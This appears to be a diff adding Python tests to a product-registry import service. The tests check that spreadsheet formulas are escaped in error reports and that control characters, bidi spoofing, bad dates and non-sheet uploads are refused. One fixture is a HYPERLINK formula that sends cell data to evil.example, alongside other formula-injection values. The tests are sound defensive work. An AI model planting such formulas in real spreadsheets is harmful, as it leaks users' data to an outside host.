@@ -10,6 +10,7 @@ import io
 from openpyxl import Workbook
 from sqlalchemy import func, select
 
+from ocop_registry.imports.models import ImportJob
 from ocop_registry.imports.service import run_import
 from ocop_registry.producers.models import Producer
 from ocop_registry.products.models import Product
@@ -461,3 +462,102 @@ def test_product_twice_in_one_sheet_gets_both_certificates_in_order(registry):
         ("certificate.issued", 2),
     ]
     assert [e["payload"]["certificate"]["stars"] for e in events] == [3, 4]
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_error_report_cells_cannot_carry_formulas_and_read_back_as_written(registry):
+    hostile = [
+        "HTX Hải Đông",
+        "Hợp tác xã",
+        "-2+3",  # not an address: the row is refused and reported
+        HOSTILE_NAME,
+        "Thực phẩm",
+        "4",
+        "@SUM(A1:A9)",
+        "15/03/2025",
+        "",
+        "",
+    ]
+    job = import_sheet(registry, sheet_csv([hostile]))
+    assert [(e["row"], e["field"]) for e in job["errors"]] == [(2, "address")]
+    report = registry.client.get(f"/v1/imports/{job['id']}/errors.csv", headers=registry.officer())
+    rows = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
+    cells = dict(zip(rows[0], rows[1], strict=True))
+    assert cells["Tên sản phẩm"] == "'" + HOSTILE_NAME
+    assert cells["Địa chỉ"] == "'-2+3" and cells["Số quyết định"] == "'@SUM(A1:A9)"
+    # The office fixes the address in the report and imports it again: the quotes the report
+    # added are not kept.
+    rows[1][rows[0].index("Địa chỉ")] = HAI_DONG
+    out = io.StringIO()
+    csv.writer(out).writerows(rows)
+    again = import_sheet(registry, out.getvalue().encode("utf-8-sig"))
+    assert again["errors"] == [] and again["rows_imported"] == 1
+    products = registry.client.get("/v1/products", headers=registry.officer()).json()["items"]
+    assert [p["name"] for p in products] == [HOSTILE_NAME]
+    assert products[0]["certificate"]["decision_no"] == "@SUM(A1:A9)"
+
+
+def test_row_with_control_bidi_or_invisible_text_is_reported_and_skipped(registry):
+    def row(producer: str, product: str) -> list[str]:
+        return [producer, "Hợp tác xã", HAI_DONG, product, "Thực phẩm", "", "", "", "", ""]
+
+    rows = [
+        row("HTX Hải Đông", "Mật ong\x07\x1b"),
+        row("HTX Hải\u202e Đông", "Mật ong bạc hà"),
+        row("\u200b\u200b", "Mật ong rừng"),
+        row("HTX Hải Đông", "..."),
+        row("  HTX   Hải\u00a0Đông ", "  Gạo   tám  "),
+    ]
+    job = import_sheet(registry, sheet_csv(rows))
+    assert [(e["row"], e["field"]) for e in job["errors"]] == [
+        (2, "product_name"),
+        (3, "producer_name"),
+        (4, "producer_name"),
+        (5, "product_name"),
+    ]
+    assert "U+0007" in job["errors"][0]["message"] and "U+202E" in job["errors"][1]["message_en"]
+    assert job["rows_imported"] == 1
+    products = registry.client.get("/v1/products", headers=registry.officer()).json()["items"]
+    assert [(p["name"], p["producer"]["name"]) for p in products] == [("Gạo tám", "HTX Hải Đông")]
+    # What could not be stored is left out of the report, not the row.
+    report = registry.client.get(f"/v1/imports/{job['id']}/errors.csv", headers=registry.officer())
+    lines = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
+    assert [line[0] for line in lines[1:]] == ["2", "3", "4", "5"]
+    assert lines[1][lines[0].index("Tên sản phẩm")] == "Mật ong"
+
+
+def test_decision_date_outside_the_programme_years_is_a_row_error(registry):
+    def row(day: str) -> list[str]:
+        return [
+            "HTX Hải Đông", "Hợp tác xã", HAI_DONG, f"Gạo {day}", "Thực phẩm", "4", "", day, "", "",
+        ]  # fmt: skip
+
+    job = import_sheet(
+        registry, sheet_csv([row("31/12/9999"), row("01/01/0001"), row("2017-06-01")])
+    )
+    assert [(e["row"], e["field"]) for e in job["errors"]] == [
+        (2, "recognised_on"),
+        (3, "recognised_on"),
+        (4, "recognised_on"),
+    ]
+    assert "2018" in job["errors"][0]["message"]
+    assert counts(registry) == (0, 0)
+
+
+def test_an_upload_that_is_no_sheet_is_refused_at_once_and_nothing_is_queued(registry):
+    elf = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4
+    huge_cell = sheet_csv([["HTX A", "Hộ kinh doanh", HAI_DONG, "x" * (5 * 1024 * 1024), "x"]])
+    for name, content in (
+        ("ds.csv", elf),
+        ("ds.csv", huge_cell),
+        ("ds\u202evsc.xlsx", sheet_csv([])),
+    ):
+        response = registry.client.post(
+            "/v1/imports", files={"file": (name, content, "text/csv")}, headers=registry.officer()
+        )
+        assert response.status_code == 422, response.text
+        assert response.json()["errors"][0]["field"] == "file"
+    with registry.db.session() as session:
+        assert session.scalar(select(func.count()).select_from(ImportJob)) == 0
